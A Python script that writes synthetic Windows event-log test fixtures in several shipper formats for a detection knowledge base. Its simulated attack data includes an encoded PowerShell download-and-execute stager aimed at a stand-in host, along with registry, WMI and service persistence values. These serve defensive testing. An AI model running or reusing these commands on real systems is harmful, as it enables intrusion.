#!/usr/bin/env python3
"""Writes the golden-file corpus of detection-kb: ONE spec per Windows event id the decoders map (Sysmon 1-29, the
Security ids, System, PowerShell, WMI-Activity, TaskScheduler, EMET), each rendered into every shipper format that
carries Windows events, one record per file:
  raw/nxlog/corpus_<source>_<id>.json        NXLog im_msvistalog + to_json() as om_tcp sends it
  raw/winlogbeat/corpus_<source>_<id>.json   Winlogbeat 8.x ECS JSON (output.logstash / file)
  raw/windows-xml/corpus_<source>_<id>.xml   Windows' own rendering (EvtRender, as in Winlogbeat's event.original)
Each format keeps its quirks (see ../shared/datasets/README.md):
  NXLog: EventTime 'YYYY-MM-DD HH:MM:SS' (written in UTC here so every format agrees), Keywords a signed int64,
    Task the number and Category its name, EventData flattened to top-level strings, empty values left out, NXLog's
    own fields win a name collision (7045's EventData AccountName is overwritten by the resolved user, Sysmon's
    EventData EventType by NXLog's INFO, Sysmon 4's Version by the event version), UserData (1102, 104, WMI) and
    unnamed Data (PowerShell 400/800, EMET) are not flattened: only Message carries them; Message uses \\r\\n.
  Winlogbeat: event_id a string, keywords names, unnamed Data as param1..N, UserData as winlog.user_data with
    xml_name, empty values left out, message with \\n line breaks, @timestamp in milliseconds.
  Windows XML: single-quoted attributes, lower-case provider GUID, SystemTime with 7 fractional digits + Z, text
    escaped (&amp; &lt; &gt; &quot; &apos;, CR as &#13; so that CRLF survives XML parsing), classic providers
    with <EventID Qualifiers='...'> and unnamed <Data>, no RenderingInfo (EvtRenderEventXml does not add it).
  raw/flat/corpus_<source>_<id>.json           flattened Log-Analytics-style JSON (OTRF 2020-10+)
  raw/winlogbeat6/corpus_<source>_<id>.json    Winlogbeat 6.5.4 legacy schema, shipped through a WEC server
  raw/evtx-dump-json/corpus_<source>_<id>.json omerbenamram/evtx evtx_dump -o json (SigmaHQ regression data)
  Flat: only EventID (int), Channel, Hostname (short on every other event, as OTRF's data), SourceName, Task (the
    number as a string), Message (\r\n), TimeCreated 'YYYY-MM-DD HH:MM:SS.fff' without a zone (UTC here: tests use
    collector zone UTC) and the flattened EventData; UserData leaves are flattened too, unnamed Data as
    param1..N, empty values left out, the system fields win a name collision (104's UserData Channel). No
    Level/Keywords/ProviderGuid/record/process ids: the format lacks them.
  Winlogbeat 6: log_name, source_name, event_id an int, computer_name the origin host, beat.* and host.name the
    WEC server, record_number a string, level a name ('Information'), keywords names, task/opcode names,
    process_id/thread_id, user.*, event_data.* with empty values kept (6.x does), unnamed Data as param1..N,
    UserData as user_data with xml_name, message with \n, type 'wineventlog', @metadata.
  evtx_dump JSON: the XML as JSON, attributes under #attributes, EventID {"#attributes":{"Qualifiers":..},
    "#text":N} for classic providers, GUIDs upper-case without braces, SystemTime with 6 fractional digits,
    Correlation/Security null when they have no attribute, EventData values typed as the template declares them
    (UInt16/UInt32 numbers, Boolean true/false, GUIDs, HexInt and SIDs strings), unnamed Data as
    {"Data":{"#text":[...]}}, UserData as {element:{"#attributes":{"xmlns":..}, leaves}}.
Deterministic: rerun after editing, then regenerate the decoded/ files with
  mvn -B -o -pl detection-kb test -Dtest=GoldenFilesTest -Diterdef.golden.update=true
Usage: python3 sample-events/tools/gen_golden_corpus.py   (from the repository root)"""
import base64, hashlib, json, os
from datetime import datetime, timedelta

OUT = os.path.join(os.path.dirname(__file__), '..', '..', 'detection-kb', 'src', 'test', 'resources', 'raw')
FORMATS = {'nxlog': 'json', 'winlogbeat': 'json', 'windows-xml': 'xml', 'flat': 'json', 'winlogbeat6': 'json',
           'evtx-dump-json': 'json'}

WS = 'FIN-WS07.corp.example.org'
DC = 'DC01.corp.example.org'
FS = 'FS02.corp.example.org'
DOMAIN = 'CORP'
DOMAIN_SID = 'S-1-5-21-3623811015-3361044348-30300820'
JDOE_SID = DOMAIN_SID + '-1107'
BACKUP_SID = DOMAIN_SID + '-1131'
ADMIN_SID = DOMAIN_SID + '-500'
SYSTEM_SID = 'S-1-5-18'
# SID -> (AccountName, Domain, NXLog AccountType, Winlogbeat user.type)
ACCOUNTS = {SYSTEM_SID: ('SYSTEM', 'NT AUTHORITY', 'User', 'Well Known Group'),
            'S-1-5-19': ('LOCAL SERVICE', 'NT AUTHORITY', 'Well Known Group', 'Well Known Group'),
            'S-1-5-20': ('NETWORK SERVICE', 'NT AUTHORITY', 'Well Known Group', 'Well Known Group'),
            JDOE_SID: ('jdoe', DOMAIN, 'User', 'User'),
            BACKUP_SID: ('svc_backup', DOMAIN, 'User', 'User'),
            ADMIN_SID: ('Administrator', DOMAIN, 'User', 'User')}

SYSMON = ('Microsoft-Windows-Sysmon', '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}', 'Microsoft-Windows-Sysmon/Operational')
SECURITY = ('Microsoft-Windows-Security-Auditing', '{54849625-5478-4994-A5BA-3E3B0328C30D}', 'Security')
EVENTLOG = ('Microsoft-Windows-Eventlog', '{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}')
SCM = ('Service Control Manager', '{555908D1-A6D7-4695-8E1E-26931D2012F4}', 'System')
PS_CLASSIC = ('PowerShell', None, 'Windows PowerShell')
PS_OPERATIONAL = ('Microsoft-Windows-PowerShell', '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}',
                  'Microsoft-Windows-PowerShell/Operational')
WMI = ('Microsoft-Windows-WMI-Activity', '{1418EF04-B0B4-4623-BF7E-D74AB47BBDAA}',
       'Microsoft-Windows-WMI-Activity/Operational')
TASKS = ('Microsoft-Windows-TaskScheduler', '{DE7B24EA-73C8-4A09-985D-5BDADCFA9017}',
         'Microsoft-Windows-TaskScheduler/Operational')
EMET = ('EMET', None, 'Application')

KW_SYSMON = 0x8000000000000000
KW_AUDIT_SUCCESS = 0x8020000000000000
KW_AUDIT_FAILURE = 0x8010000000000000
KW_CLASSIC = 0x0080000000000000
KW_SCM = 0x8080000000000000
KW_WMI = 0x4000000000000000
KEYWORD_NAMES = {KW_AUDIT_SUCCESS: ['Audit Success'], KW_AUDIT_FAILURE: ['Audit Failure'], KW_CLASSIC: ['Classic'],
                 KW_SCM: ['Classic'], 0x4020000000000000: ['Audit Success']}
LEVELS = {0: 'information', 1: 'critical', 2: 'error', 3: 'warning', 4: 'information', 5: 'verbose'}
NXLOG_SEVERITY = {0: ('INFO', 2), 1: ('CRITICAL', 5), 2: ('ERROR', 4), 3: ('WARNING', 3), 4: ('INFO', 2),
                  5: ('DEBUG', 1)}
NXLOG_EVENTTYPE = {0: 'INFO', 1: 'CRITICAL', 2: 'ERROR', 3: 'WARNING', 4: 'INFO', 5: 'VERBOSE'}
OPCODES = {0: 'Info', 1: 'Start', 2: 'Stop', 15: 'On create calls',
           20: 'To be used when operation is just executing a method'}

T0 = datetime(2026, 11, 17, 9, 30, 0)
record = {}


def guid(seed, prefix='6f3c1a2b'):
    h = hashlib.md5(seed.encode()).hexdigest()
    return '{%s-%s-%s-%s-%s}' % (prefix, h[0:4], h[4:8], h[8:12], h[12:24])


def hashes(seed, kinds=('SHA1', 'MD5', 'SHA256', 'IMPHASH')):
    h = hashlib.sha256(seed.encode()).hexdigest().upper()
    full = {'SHA1': h[:40], 'MD5': h[:32], 'SHA256': h, 'IMPHASH': h[16:48]}
    return ','.join(f'{k}={full[k]}' for k in kinds)


def enc(script):
    return base64.b64encode(script.encode('utf-16-le')).decode()


SPECS = []


def spec(source, eid, src, data=None, *, version=0, level=4, task=0, task_name=None, opcode=0, keywords=0,
         computer=WS, pid=4, tid=4, sid=None, message='', userdata=None, unnamed=None, binary=None,
         qualifiers=None, activity=None, lost=()):
    """One event: src is (provider, guid, channel[, ]); data a list of (Name, value) pairs in schema order;
    userdata (element, namespace, pairs) instead of EventData; unnamed a list of texts for classic providers;
    lost: EventData names that NXLog overwrites with its own field of the same name."""
    channel = src[2] if len(src) > 2 else None
    key = channel
    record[key] = record.get(key, {'Security': 1920400, 'System': 9900, 'Application': 5510}.get(key, 48200)) + 1
    n = len(SPECS)
    t = T0 + timedelta(seconds=7 * n, microseconds=(n * 137911) % 1000000) + timedelta(microseconds=0)
    ticks = (n * 7) % 10  # the 7th fractional digit (100 ns), as Windows writes it
    SPECS.append(dict(n=n, source=source, id=eid, provider=src[0], guid=src[1], channel=channel, version=version,
                      level=level, task=task, task_name=task_name, opcode=opcode, keywords=keywords, computer=computer,
                      record=record[key], time=t, ticks=ticks, pid=pid, tid=tid, sid=sid, data=data or [],
                      userdata=userdata, unnamed=unnamed, binary=binary, qualifiers=qualifiers, activity=activity,
                      message=message, lost=set(lost)))


def utc_ms(t, back_ms=0):
    t = t - timedelta(milliseconds=back_ms)
    return t.strftime('%Y-%m-%d %H:%M:%S.') + '%03d' % (t.microsecond // 1000)


# ------------------------------------------------------------------------------------------------------- Sysmon
SYS32 = 'C:\\Windows\\System32\\'
PS = SYS32 + 'WindowsPowerShell\\v1.0\\powershell.exe'
WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
EXPLORER = 'C:\\Windows\\explorer.exe'
RUNDLL = SYS32 + 'rundll32.exe'
DROPPER = 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe'
STAGER = enc("IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.23/a.ps1')")
PS_CMD = f'powershell.exe -nop -w hidden -enc {STAGER}'
USER = 'CORP\\jdoe'
PS_GUID = guid('powershell-6120')
PS_PID = '6120'
WORD_GUID = guid('winword-5032')
LOGON_GUID = '{6f3c1a2b-9d1e-6737-5a7b-1c0000000000}'

SYSMON_EVENTS = {
    # id: (version, task name, message title, fields)
    1: (5, 'Process Create (rule: ProcessCreate)', 'Process Create', [
        ('RuleName', 'technique_id=T1059.001,technique_name=PowerShell'), ('UtcTime', None),
        ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('Image', PS),
        ('FileVersion', '10.0.19041.3996 (WinBuild.160101.0800)'), ('Description', 'Windows PowerShell'),
        ('Product', 'Microsoft® Windows® Operating System'), ('Company', 'Microsoft Corporation'),
        ('OriginalFileName', 'PowerShell.EXE'), ('CommandLine', PS_CMD),
        ('CurrentDirectory', 'C:\\Users\\jdoe\\Documents\\'), ('User', USER), ('LogonGuid', LOGON_GUID),
        ('LogonId', '0x1c7b5a'), ('TerminalSessionId', '1'), ('IntegrityLevel', 'Medium'),
        ('Hashes', hashes('powershell.exe')), ('ParentProcessGuid', WORD_GUID), ('ParentProcessId', '5032'),
        ('ParentImage', WORD),
        ('ParentCommandLine', f'"{WORD}" /n "C:\\Users\\jdoe\\Downloads\\Invoice_8841.docm" /o ""'),
        ('ParentUser', USER)]),
    2: (5, 'File creation time changed (rule: FileCreateTime)', 'File creation time changed', [
        ('RuleName', 'technique_id=T1070.006,technique_name=Timestomp'), ('UtcTime', None),
        ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('Image', PS),
        ('TargetFilename', 'C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\sync.lnk'),
        ('CreationUtcTime', '2019-03-02 11:04:51.000'), ('PreviousCreationUtcTime', '2026-11-17 09:30:01.514'),
        ('User', USER)]),
    3: (5, 'Network connection detected (rule: NetworkConnect)', 'Network connection detected', [
        ('RuleName', 'technique_id=T1071,technique_name=Application Layer Protocol'), ('UtcTime', None),
        ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('Image', PS), ('User', USER), ('Protocol', 'tcp'),
        ('Initiated', 'true'), ('SourceIsIpv6', 'false'), ('SourceIp', '192.0.2.37'), ('SourceHostname', WS),
        ('SourcePort', '50112'), ('SourcePortName', '-'), ('DestinationIsIpv6', 'false'),
        ('DestinationIp', '198.51.100.23'), ('DestinationHostname', 'cdn-update.example.net'),
        ('DestinationPort', '443'), ('DestinationPortName', 'https')]),
    4: (3, 'Sysmon service state changed', 'Sysmon service state changed', [
        ('UtcTime', None), ('State', 'Started'), ('Version', '15.14'), ('SchemaVersion', '4.90')]),
    5: (3, 'Process terminated (rule: ProcessTerminate)', 'Process terminated', [
        ('RuleName', '-'), ('UtcTime', None), ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('Image', PS),
        ('User', USER)]),
    6: (4, 'Driver loaded (rule: DriverLoad)', 'Driver loaded', [
        ('RuleName', 'technique_id=T1543.003,technique_name=Windows Service'), ('UtcTime', None),
        ('ImageLoaded', 'C:\\Windows\\System32\\drivers\\RTCore64.sys'), ('Hashes', hashes('RTCore64.sys')),
        ('Signed', 'true'), ('Signature', 'Micro-Star Int\'l Co. Ltd.'), ('SignatureStatus', 'Expired')]),
    7: (3, 'Image loaded (rule: ImageLoad)', 'Image loaded', [
        ('RuleName', 'technique_id=T1218.011,technique_name=Rundll32'), ('UtcTime', None),
        ('ProcessGuid', guid('rundll32-7344')), ('ProcessId', '7344'), ('Image', RUNDLL),
        ('ImageLoaded', 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\mscorsvc.dll'), ('FileVersion', '-'),
        ('Description', '-'), ('Product', '-'), ('Company', '-'), ('OriginalFileName', '-'),
        ('Hashes', hashes('mscorsvc.dll')), ('Signed', 'false'), ('Signature', '-'),
        ('SignatureStatus', 'Unavailable'), ('User', USER)]),
    8: (2, 'CreateRemoteThread detected (rule: CreateRemoteThread)', 'CreateRemoteThread detected', [
        ('RuleName', 'technique_id=T1055,technique_name=Process Injection'), ('UtcTime', None),
        ('SourceProcessGuid', PS_GUID), ('SourceProcessId', PS_PID), ('SourceImage', PS),
        ('TargetProcessGuid', guid('explorer-3908')), ('TargetProcessId', '3908'), ('TargetImage', EXPLORER),
        ('NewThreadId', '8812'), ('StartAddress', '0x000001D5A2B30000'), ('StartModule', '-'),
        ('StartFunction', '-'), ('SourceUser', USER), ('TargetUser', USER)]),
    9: (2, 'RawAccessRead detected (rule: RawAccessRead)', 'RawAccessRead detected', [
        ('RuleName', 'technique_id=T1006,technique_name=Direct Volume Access'), ('UtcTime', None),
        ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('Image', PS),
        ('Device', '\\Device\\HarddiskVolume3'), ('User', USER)]),
    10: (3, 'Process accessed (rule: ProcessAccess)', 'Process accessed', [
        ('RuleName', 'technique_id=T1003.001,technique_name=LSASS Memory'), ('UtcTime', None),
        ('SourceProcessGUID', PS_GUID), ('SourceProcessId', PS_PID), ('SourceThreadId', '7324'),
        ('SourceImage', PS), ('TargetProcessGUID', guid('lsass-768')), ('TargetProcessId', '768'),
        ('TargetImage', SYS32 + 'lsass.exe'), ('GrantedAccess', '0x1010'),
        ('CallTrace', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|'
                      'UNKNOWN(000001D5A2B4A1F7)'),
        ('SourceUser', USER), ('TargetUser', 'NT AUTHORITY\\SYSTEM')]),
    11: (2, 'File created (rule: FileCreate)', 'File created', [
        ('RuleName', 'technique_id=T1105,technique_name=Ingress Tool Transfer'), ('UtcTime', None),
        ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('Image', PS), ('TargetFilename', DROPPER),
        ('CreationUtcTime', '2026-11-17 09:30:02.001'), ('User', USER)]),
    12: (2, 'Registry object added or deleted (rule: RegistryEvent)', 'Registry object added or deleted', [
        ('RuleName', 'technique_id=T1547.001,technique_name=Registry Run Keys'), ('EventType', 'CreateKey'),
        ('UtcTime', None), ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('Image', PS),
        ('TargetObject', 'HKU\\' + JDOE_SID + '\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'),
        ('User', USER)]),
    13: (2, 'Registry value set (rule: RegistryEvent)', 'Registry value set', [
        ('RuleName', 'technique_id=T1547.001,technique_name=Registry Run Keys'), ('EventType', 'SetValue'),
        ('UtcTime', None), ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('Image', PS),
        ('TargetObject', 'HKU\\' + JDOE_SID + '\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync'),
        ('Details', DROPPER + ' /background'), ('User', USER)]),
    14: (2, 'Registry object renamed (rule: RegistryEvent)', 'Registry object renamed', [
        ('RuleName', '-'), ('EventType', 'RenameKey'), ('UtcTime', None), ('ProcessGuid', PS_GUID),
        ('ProcessId', PS_PID), ('Image', PS),
        ('TargetObject', 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths_tmp'),
        ('NewName', 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths'), ('User', USER)]),
    15: (2, 'File stream created (rule: FileCreateStreamHash)', 'File stream created', [
        ('RuleName', '-'), ('UtcTime', None), ('ProcessGuid', guid('msedge-4412')), ('ProcessId', '4412'),
        ('Image', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe'),
        ('TargetFilename', 'C:\\Users\\jdoe\\Downloads\\Invoice_8841.docm:Zone.Identifier'),
        ('CreationUtcTime', '2026-11-17 09:28:44.310'), ('Hash', hashes('zone', ('SHA1', 'MD5', 'SHA256', 'IMPHASH'))),
        ('Contents', '[ZoneTransfer]  ZoneId=3  HostUrl=https://198.51.100.23/Invoice_8841.docm  '),
        ('User', USER)]),
    16: (3, 'Sysmon config state changed', 'Sysmon config state changed', [
        ('UtcTime', None), ('Configuration', 'C:\\Windows\\sysmon-config.xml'),
        ('ConfigurationFileHash', 'SHA256=' + hashlib.sha256(b'sysmon-config').hexdigest().upper())]),
    17: (1, 'Pipe Created (rule: PipeEvent)', 'Pipe Created', [
        ('RuleName', 'technique_id=T1021.002,technique_name=SMB/Windows Admin Shares'), ('EventType', 'CreatePipe'),
        ('UtcTime', None), ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('PipeName', '\\msagent_4f2a'),
        ('Image', PS), ('User', USER)]),
    18: (1, 'Pipe Connected (rule: PipeEvent)', 'Pipe Connected', [
        ('RuleName', '-'), ('EventType', 'ConnectPipe'), ('UtcTime', None), ('ProcessGuid', guid('rundll32-7344')),
        ('ProcessId', '7344'), ('PipeName', '\\msagent_4f2a'), ('Image', RUNDLL), ('User', USER)]),
    19: (3, 'WmiEventFilter activity detected (rule: WmiEvent)', 'WmiEventFilter activity detected', [
        ('RuleName', 'technique_id=T1546.003,technique_name=Windows Management Instrumentation Event Subscription'),
        ('EventType', 'WmiFilterEvent'), ('UtcTime', None), ('Operation', 'Created'), ('User', USER),
        ('EventNamespace', ' "root/cimv2"'), ('Name', ' "OneDriveSync"'),
        ('Query', ' "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA '
                  '\'Win32_PerfFormattedData_PerfOS_System\'"')]),
    20: (3, 'WmiEventConsumer activity detected (rule: WmiEvent)', 'WmiEventConsumer activity detected', [
        ('RuleName', 'technique_id=T1546.003,technique_name=Windows Management Instrumentation Event Subscription'),
        ('EventType', 'WmiConsumerEvent'), ('UtcTime', None), ('Operation', 'Created'), ('User', USER),
        ('Name', ' "OneDriveSync"'), ('Type', 'Command Line'), ('Destination', f' "{DROPPER} /background"')]),
    21: (3, 'WmiEventConsumerToFilter activity detected (rule: WmiEvent)', 'WmiEventConsumerToFilter activity detected', [
        ('RuleName', 'technique_id=T1546.003,technique_name=Windows Management Instrumentation Event Subscription'),
        ('EventType', 'WmiBindingEvent'), ('UtcTime', None), ('Operation', 'Created'), ('User', USER),
        ('Consumer', ' "CommandLineEventConsumer.Name=\\"OneDriveSync\\""'),
        ('Filter', ' "__EventFilter.Name=\\"OneDriveSync\\""')]),
    22: (5, 'Dns query (rule: DnsQuery)', 'Dns query', [
        ('RuleName', '-'), ('UtcTime', None), ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID),
        ('QueryName', 'cdn-update.example.net'), ('QueryStatus', '0'),
        ('QueryResults', 'type:  5 cdn-update.example.net.edgekey.net;::ffff:198.51.100.23;'),
        ('Image', PS), ('User', USER)]),
    23: (5, 'File Delete archived (rule: FileDelete)', 'File Delete archived', [
        ('RuleName', 'technique_id=T1070.004,technique_name=File Deletion'), ('UtcTime', None),
        ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('User', USER), ('Image', PS),
        ('TargetFilename', 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\a.ps1'),
        ('Hashes', hashes('a.ps1', ('SHA256', 'IMPHASH'))), ('IsExecutable', 'false'), ('Archived', 'true')]),
    24: (5, 'Clipboard changed (rule: ClipboardChange)', 'Clipboard changed', [
        ('RuleName', '-'), ('UtcTime', None), ('ProcessGuid', guid('rdpclip-6644')), ('ProcessId', '6644'),
        ('Image', SYS32 + 'rdpclip.exe'), ('Session', '2'), ('ClientInfo', 'user: CORP\\jdoe ip: 192.0.2.51 hostname: OPS-JUMP01'),
        ('Hashes', hashes('clip', ('SHA256',))), ('Archived', 'true'), ('User', USER)]),
    25: (5, 'Process Tampering (rule: ProcessTampering)', 'Process Tampering', [
        ('RuleName', 'technique_id=T1055.012,technique_name=Process Hollowing'), ('UtcTime', None),
        ('ProcessGuid', guid('svchost-8020')), ('ProcessId', '8020'), ('Image', SYS32 + 'svchost.exe'),
        ('Type', 'Image is replaced'), ('User', USER)]),
    26: (5, 'File Delete logged (rule: FileDeleteDetected)', 'File Delete logged', [
        ('RuleName', '-'), ('UtcTime', None), ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('User', USER),
        ('Image', PS), ('TargetFilename', DROPPER), ('Hashes', hashes('updater.exe', ('SHA256', 'IMPHASH'))),
        ('IsExecutable', 'true')]),
    27: (5, 'File Block Executable (rule: FileBlockExecutable)', 'File Block Executable', [
        ('RuleName', '-'), ('UtcTime', None), ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('User', USER),
        ('Image', PS), ('TargetFilename', 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\stage2.exe'),
        ('Hashes', hashes('stage2.exe', ('SHA256', 'IMPHASH')))]),
    28: (5, 'File Block Shredding (rule: FileBlockShredding)', 'File Block Shredding', [
        ('RuleName', '-'), ('UtcTime', None), ('ProcessGuid', guid('sdelete-2284')), ('ProcessId', '2284'),
        ('User', USER), ('Image', 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\sdelete64.exe'),
        ('TargetFilename', 'C:\\Users\\jdoe\\Documents\\Q3-forecast.xlsx'),
        ('Hashes', hashes('Q3-forecast.xlsx', ('SHA256', 'IMPHASH'))), ('IsExecutable', 'false')]),
    29: (5, 'File Executable Detected (rule: FileExecutableDetected)', 'File Executable Detected', [
        ('RuleName', '-'), ('UtcTime', None), ('ProcessGuid', PS_GUID), ('ProcessId', PS_PID), ('User', USER),
        ('Image', PS), ('TargetFilename', DROPPER), ('Hashes', hashes('updater.exe', ('SHA256', 'IMPHASH')))]),
}

for _id, (_v, _task, _title, _fields) in SYSMON_EVENTS.items():
    spec('sysmon', _id, SYSMON, _fields, version=_v, task=_id, task_name=_task, keywords=KW_SYSMON, pid=2836,
         tid=3120 + _id, sid=SYSTEM_SID, message=_title + ':',
         lost=('EventType',) if any(k == 'EventType' for k, _ in _fields) else ('Version',) if _id == 4 else ())


# ----------------------------------------------------------------------------------------------------- Security
def subject(sid=JDOE_SID, name='jdoe', domain=DOMAIN, logon='0x1c7b5a'):
    return [('SubjectUserSid', sid), ('SubjectUserName', name), ('SubjectDomainName', domain),
            ('SubjectLogonId', logon)]


SYSTEM_SUBJECT = subject(SYSTEM_SID, 'FIN-WS07$', DOMAIN, '0x3e7')
LSASS = dict(pid=668, computer=WS)
TASK_XML = ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" '
            'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <RegistrationInfo>\r\n'
            '    <Author>CORP\\jdoe</Author>\r\n    <URI>\\OneDriveSync</URI>\r\n  </RegistrationInfo>\r\n'
            '  <Triggers>\r\n    <LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n'
            '  </Triggers>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n'
            f'      <Command>{DROPPER}</Command>\r\n      <Arguments>/background</Arguments>\r\n    </Exec>\r\n'
            '  </Actions>\r\n</Task>')
TASK_CLIENT = [('ClientProcessStartKey', '14636698788954380'), ('ClientProcessId', '7012'),
               ('ParentProcessId', '6120'), ('RpcCallClientLocality', '0'), ('FQDN', WS)]


def sec(eid, data, task, task_name, message, *, version=0, failure=False, **kw):
    opts = dict(LSASS)
    opts.update(kw)
    spec('security', eid, SECURITY, data, version=version, task=task, task_name=task_name,
         keywords=KW_AUDIT_FAILURE if failure else KW_AUDIT_SUCCESS, tid=7340 + eid % 97, message=message, **opts)


sec(4624, subject('S-1-0-0', '-', '-', '0x0') + [
    ('TargetUserSid', BACKUP_SID), ('TargetUserName', 'svc_backup'), ('TargetDomainName', DOMAIN),
    ('TargetLogonId', '0x2f3a11c'), ('LogonType', '3'), ('LogonProcessName', 'NtLmSsp '),
    ('AuthenticationPackageName', 'NTLM'), ('WorkstationName', 'OPS-JUMP01'),
    ('LogonGuid', '{00000000-0000-0000-0000-000000000000}'), ('TransmittedServices', '-'),
    ('LmPackageName', 'NTLM V2'), ('KeyLength', '128'), ('ProcessId', '0x0'), ('ProcessName', '-'),
    ('IpAddress', '192.0.2.51'), ('IpPort', '50912'), ('ImpersonationLevel', '%%1833'),
    ('RestrictedAdminMode', '-'), ('TargetOutboundUserName', '-'), ('TargetOutboundDomainName', '-'),
    ('VirtualAccount', '%%1843'), ('TargetLinkedLogonId', '0x0'), ('ElevatedToken', '%%1842')],
    12544, 'Logon', 'An account was successfully logged on.', version=2, computer=FS)
sec(4625, subject('S-1-0-0', '-', '-', '0x0') + [
    ('TargetUserSid', 'S-1-0-0'), ('TargetUserName', 'Administrator'), ('TargetDomainName', 'FIN-WS07'),
    ('Status', '0xc000006d'), ('FailureReason', '%%2313'), ('SubStatus', '0xc000006a'), ('LogonType', '3'),
    ('LogonProcessName', 'NtLmSsp '), ('AuthenticationPackageName', 'NTLM'), ('WorkstationName', 'KALI'),
    ('TransmittedServices', '-'), ('LmPackageName', '-'), ('KeyLength', '0'), ('ProcessId', '0x0'),
    ('ProcessName', '-'), ('IpAddress', '198.51.100.77'), ('IpPort', '44312')],
    12544, 'Logon', 'An account failed to log on.', failure=True)
sec(4634, [('TargetUserSid', BACKUP_SID), ('TargetUserName', 'svc_backup'), ('TargetDomainName', DOMAIN),
           ('TargetLogonId', '0x2f3a11c'), ('LogonType', '3')],
    12545, 'Logoff', 'An account was logged off.', computer=FS)
sec(4647, [('TargetUserSid', JDOE_SID), ('TargetUserName', 'jdoe'), ('TargetDomainName', DOMAIN),
           ('TargetLogonId', '0x1c7b5a')],
    12545, 'Logoff', 'User initiated logoff:')
sec(4648, subject() + [
    ('LogonGuid', '{6f3c1a2b-0000-0000-0000-000000000000}'), ('TargetUserName', 'svc_backup'),
    ('TargetDomainName', DOMAIN), ('TargetLogonGuid', '{8d3f2a61-1b2c-3d4e-5f60-718293a4b5c6}'),
    ('TargetServerName', 'FS02.corp.example.org'), ('TargetInfo', 'FS02.corp.example.org'),
    ('ProcessId', '0x17e8'), ('ProcessName', PS), ('IpAddress', '-'), ('IpPort', '-')],
    12544, 'Logon', 'A logon was attempted using explicit credentials.')
sec(4656, subject() + [
    ('ObjectServer', 'Security'), ('ObjectType', 'Process'),
    ('ObjectName', '\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe'), ('HandleId', '0x1a4'),
    ('TransactionId', '{00000000-0000-0000-0000-000000000000}'), ('AccessList', '%%4484\r\n\t\t\t\t%%4490\r\n\t\t\t\t'),
    ('AccessReason', '-'), ('AccessMask', '0x1010'), ('PrivilegeList', '-'), ('RestrictedSidCount', '0'),
    ('ProcessId', '0x17e8'), ('ProcessName', PS), ('ResourceAttributes', '-')],
    12804, 'Kernel Object', 'A handle to an object was requested.', version=1)
sec(4663, subject() + [
    ('ObjectServer', 'Security'), ('ObjectType', 'File'),
    ('ObjectName', 'C:\\Users\\jdoe\\Documents\\Q3-forecast.xlsx'), ('HandleId', '0x2c8'),
    ('AccessList', '%%1537\r\n\t\t\t\t'), ('AccessMask', '0x10000'), ('ProcessId', '0x8ec'),
    ('ProcessName', 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\sdelete64.exe'), ('ResourceAttributes', 'S:AI')],
    12800, 'File System', 'An attempt was made to access an object.', version=1)
sec(4672, subject(ADMIN_SID, 'Administrator', DOMAIN, '0x3e1c55a') + [
    ('PrivilegeList', 'SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\t'
                      'SeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n'
                      '\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege')],
    12548, 'Special Logon', 'Special privileges assigned to new logon.')
sec(4688, subject() + [
    ('NewProcessId', '0x17e8'), ('NewProcessName', PS), ('TokenElevationType', '%%1938'), ('ProcessId', '0x13a8'),
    ('CommandLine', PS_CMD), ('TargetUserSid', 'S-1-0-0'), ('TargetUserName', '-'), ('TargetDomainName', '-'),
    ('TargetLogonId', '0x0'), ('ParentProcessName', WORD), ('MandatoryLabel', 'S-1-16-8192')],
    13312, 'Process Creation', 'A new process has been created.', version=2)
sec(4697, subject(ADMIN_SID, 'Administrator', DOMAIN, '0x3e1c55a') + [
    ('ServiceName', 'UpdaterSvc'), ('ServiceFileName', '%COMSPEC% /b /c start /b /min ' + DROPPER),
    ('ServiceType', '0x10'), ('ServiceStartType', '3'), ('ServiceAccount', 'LocalSystem')],
    12289, 'Security System Extension', 'A service was installed in the system.')
